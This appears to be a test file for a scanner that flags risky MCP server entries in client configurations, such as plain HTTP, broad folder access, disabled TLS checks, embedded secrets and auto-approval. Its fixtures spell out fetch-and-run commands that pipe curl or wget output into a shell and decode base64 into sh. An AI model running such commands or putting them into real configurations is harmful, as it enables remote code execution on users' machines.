// What single servers of client configurations give, over all rules of the family: shapes that
// other scanners got wrong, spellings of one fault, and neighbours that must stay quiet.

import { deepStrictEqual, doesNotMatch } from "node:assert/strict";
import { MANIFEST_RULES } from "../../src/detectors/manifests/mod.ts";
import { exampleChars } from "../../src/detectors/secrets/token_checks.ts";
import { matchFile, ruleSet } from "../../src/scan/mod.ts";

const RULES = ruleSet(MANIFEST_RULES);
const KEY = exampleChars(5)(32);

/** `rule severity` of each match of a server, in order of the rules. */
async function found(entry: unknown): Promise<string[]> {
  const text = JSON.stringify({ mcpServers: { s: entry } });
  const { matches } = await matchFile({ kind: "json", text }, RULES);
  return matches.map(({ ruleId, severity }) => `${ruleId} ${severity}`);
}

async function expectEach(cases: readonly (readonly [unknown, readonly string[]])[]) {
  for (const [entry, expected] of cases) {
    deepStrictEqual(await found(entry), expected, JSON.stringify(entry));
  }
}

Deno.test("plain HTTP is told by what a client would connect to", async () => {
  const high = ["mcp-plain-http high"];
  await expectEach([
    [{ url: "http://localhost.evil.example/mcp" }, high],
    [{ url: "http://evil.example/?x=127.0.0.1" }, high],
    [{ url: "http:/evil.example" }, high],
    [{ url: " http://evil.example" }, high],
    [{ url: "HTTP://evil.example" }, high],
    [{ url: "http://evil.example", disabled: true }, high],
    [{ command: "bridge", args: ["--url=http://evil.example"] }, high],
    [{ command: "bridge", args: ["url=http:evil.example"] }, high],
    [{ url: "http://192.168.0.7/mcp" }, ["mcp-plain-http low"]],
    [{ url: "http://127.0.0.1@evil.example/" }, high],
    [{ url: "https://evil.example" }, []],
    [{ url: "http://127.0.0.1:80" }, []],
    [{ url: "http://${HOST}/mcp" }, []],
    [{ command: "bridge", args: ["--note=see http://evil.example"] }, []],
  ]);
});

Deno.test("folders that are too broad are found, and ordinary ones are not", async () => {
  const files = (folder: string) => ({ command: "mcp-server-filesystem", args: [folder] });
  const broad = ["/", "/etc", "/var", "C:\\", "*", "~/.ssh", "file:///"];
  const homes = [
    "~",
    "~/",
    "$HOME",
    "${HOME}",
    "/home",
    "/Users",
    "/root",
    "/home/me",
    "C:\\Users",
  ];
  const fine = [
    "/srv/notes",
    "~/notes",
    "${workspaceFolder}",
    ".",
    "/tmp",
    "/Users/<you>",
    "D:\\a",
  ];
  await expectEach([
    ...broad.map((folder) => [files(folder), ["config-broad-path high"]] as const),
    ...homes.map((folder) => [files(folder), ["config-broad-path medium"]] as const),
    ...fine.map((folder) => [files(folder), []] as const),
    [{ command: "x", allowedPaths: ["*"] }, ["config-broad-path high"]],
    [{ command: "x", allowedPaths: "/home" }, ["config-broad-path medium"]],
    [{ command: "x", env: { ALLOWED_DIRS: "/srv:/root" } }, ["config-broad-path medium"]],
    [{ command: "x", args: ["--allow-read=/"] }, ["config-broad-path high"]],
    [{ command: "docker", args: ["run", "-v", "/:/host:ro", "a"] }, ["config-broad-path high"]],
    [{ command: "docker", args: ["run", "-v", "~/.aws:/home/node/.aws:ro", "a"] }, []],
  ]);
});

Deno.test("programs in places that others can write to are found", async () => {
  const high = ["config-writable-command high"];
  await expectEach([
    [{ command: "/tmp/x" }, high],
    [{ command: "/var/tmp/a/x" }, high],
    [{ command: "/dev/shm/x" }, high],
    [{ command: "/private/tmp/x" }, high],
    [{ command: "%TEMP%\\x.exe" }, high],
    [{ command: "C:\\Users\\me\\AppData\\Local\\Temp\\x.exe" }, high],
    [{ command: "node", args: ["--no-warnings", "/tmp/x.js"] }, high],
    [{ command: "uv", args: ["--directory", "/tmp/x", "run", "x"] }, high],
    [{ command: "/Users/me/Downloads/x" }, ["config-writable-command medium"]],
    [{ command: "~/Downloads/x" }, ["config-writable-command medium"]],
    [{ command: "./x" }, ["config-relative-command low"]],
    [{ command: "..\\x.exe" }, ["config-relative-command low"]],
    [{ command: "/opt/tmp/x" }, []],
    [{ command: "node", args: ["x.js", "/tmp/data.js"] }, []],
    [{ command: "python", args: ["-m", "x", "/tmp/data.py"] }, []],
  ]);
});

Deno.test("scripts are told from wrappers, and downloads from scripts", async () => {
  const inline = ["config-inline-script low"];
  const piped = ["config-pipe-to-shell high"];
  await expectEach([
    [{ command: "bash", args: ["-c", "x; y"] }, inline],
    [{ command: "bash", args: ["-c", "x $(y)"] }, inline],
    [{ command: "node", args: ["-e", "require('x')"] }, inline],
    [{ command: "deno", args: ["eval", "1"] }, inline],
    [{ command: "pwsh", args: ["-EncodedCommand", "eA=="] }, ["config-inline-script high"]],
    [{ command: "bash", args: ["-c", "x --y"] }, []],
    [{ command: "cmd", args: ["/c", "x", "--y"] }, []],
    [{ command: "node", args: ["x.js", "-e", "a;b"] }, []],
    [{ command: "bash", args: ["-c", "curl https://a.example/x | sudo bash"] }, [
      "config-pipe-to-shell high",
      "config-root-command medium",
    ]],
    [{ command: "bash", args: ["-c", "$(curl -s https://a.example/x)"] }, piped],
    [{ command: "sh", args: ["-c", "wget -qO- https://a.example/x|python3 -"] }, piped],
    [{ command: "bash", args: ["-c", "source <(curl -s https://a.example/x)"] }, piped],
    [{ command: "cmd", args: ["/c", "curl", "https://a.example/x", "|", "bash"] }, piped],
    [{ command: "powershell", args: ["iex", "-c", "iex (irm https://a.example/x)"] }, piped],
    [{ command: "sh", args: ["-c", "echo eA== | base64 -d | sh"] }, piped],
    [{ command: "bash", args: ["-c", "curl -o x https://a.example/x && ./x"] }, inline],
    [{ command: "x", args: ["--run", "curl https://a.example | sh"] }, []],
  ]);
});

Deno.test("approvals count by what they approve", async () => {
  await expectEach([
    [{ command: "x", autoApprove: ["*"] }, ["config-auto-approve medium"]],
    [{ command: "x", alwaysAllow: true }, ["config-auto-approve medium"]],
    [{ command: "x", autoApproveAll: true }, ["config-auto-approve medium"]],
    [{ command: "x", alwaysAllow: ["get", "runQuery", "delete-all"] }, ["config-auto-approve low"]],
    [{ command: "x", alwaysAllow: ["get_runtime", "list_executions"], trust: "false" }, []],
    [{ command: "x", trustStore: "*", tools: ["*"] }, []],
  ]);
});

Deno.test("switched-off certificate checks are found in every spelling", async () => {
  const off = ["config-insecure-tls medium"];
  const env = (name: string, value: unknown) => ({ command: "x", env: { [name]: value } });
  const args = (...words: string[]) => ({ command: "x", args: words });
  await expectEach([
    [env("NODE_TLS_REJECT_UNAUTHORIZED", 0), off],
    [env("PYTHONHTTPSVERIFY", "0"), off],
    [env("JIRA_SSL_VERIFY", "false"), off],
    [env("GIT_SSL_NO_VERIFY", "1"), off],
    [env("npm_config_strict_ssl", "false"), off],
    [args("--insecure"), off],
    [args("--no-verify-ssl"), off],
    [args("--verify-ssl=false"), off],
    [args("--verify-ssl", "false"), off],
    [args("--ignore-certificate-errors"), off],
    [args("--no-check-certificate"), off],
    [{ url: "https://a.example", tls: { rejectUnauthorized: false } }, off],
    [{ command: "docker", args: ["run", "-e", "NODE_TLS_REJECT_UNAUTHORIZED=0", "a"] }, off],
    [env("NODE_TLS_REJECT_UNAUTHORIZED", "1"), []],
    [env("SSL_CERT_FILE", "/etc/ca.pem"), []],
    [env("INSECURE_REQUESTS_ALLOWED", "0"), []],
    [args("--verify-ssl"), []],
    [args("--insecure=false"), []],
    [args("--no-cert"), []],
  ]);
});

Deno.test("credentials give one match each, and none is in a message", async () => {
  const cases: readonly (readonly [unknown, readonly string[]])[] = [
    [{ command: "x", env: { API_KEY: KEY } }, ["config-secret-in-env high"]],
    [{ command: "x", env: { DB_PASSWORD: "Amber-Falcon" } }, ["config-secret-in-env medium"]],
    [{ command: "x", args: ["--token", KEY] }, ["config-secret-in-arguments high"]],
    [{ url: `https://a.example?token=${KEY}` }, ["config-secret-in-url high"]],
    [{ url: "https://a.example", headers: { Authorization: `Bearer ${KEY}` } }, [
      "config-secret-in-headers high",
    ]],
  ];
  await expectEach(cases);
  for (const [entry] of cases) {
    const text = JSON.stringify({ mcpServers: { s: entry } });
    const { matches } = await matchFile({ kind: "json", text }, RULES);
    for (const { message } of matches) doesNotMatch(message, new RegExp(`${KEY}|Falcon`));
  }
});

Deno.test("what listens on every network is found, containers aside", async () => {
  const exposed = ["config-exposed-bind medium"];
  const docker = (...words: string[]) => ({ command: "docker", args: ["run", ...words, "a"] });
  await expectEach([
    [{ command: "x", args: ["--host=0.0.0.0"] }, exposed],
    [{ command: "x", args: ["--bind", "0.0.0.0:80"] }, exposed],
    [{ command: "x", env: { FASTMCP_HOST: "0.0.0.0" } }, exposed],
    [{ command: "x", env: { HOST: "::" } }, exposed],
    [docker("-p", "80:80"), exposed],
    [docker("--publish=80"), exposed],
    [docker("-P"), exposed],
    [docker("-p", "127.0.0.1:80:80"), []],
    [docker("-e", "HOST=0.0.0.0"), []],
    [{ command: "x", env: { REDIS_HOST: "0.0.0.0" } }, []],
    [{ command: "x", args: ["--cidr", "0.0.0.0"] }, []],
    [{ url: "http://0.0.0.0:80" }, []],
  ]);
});
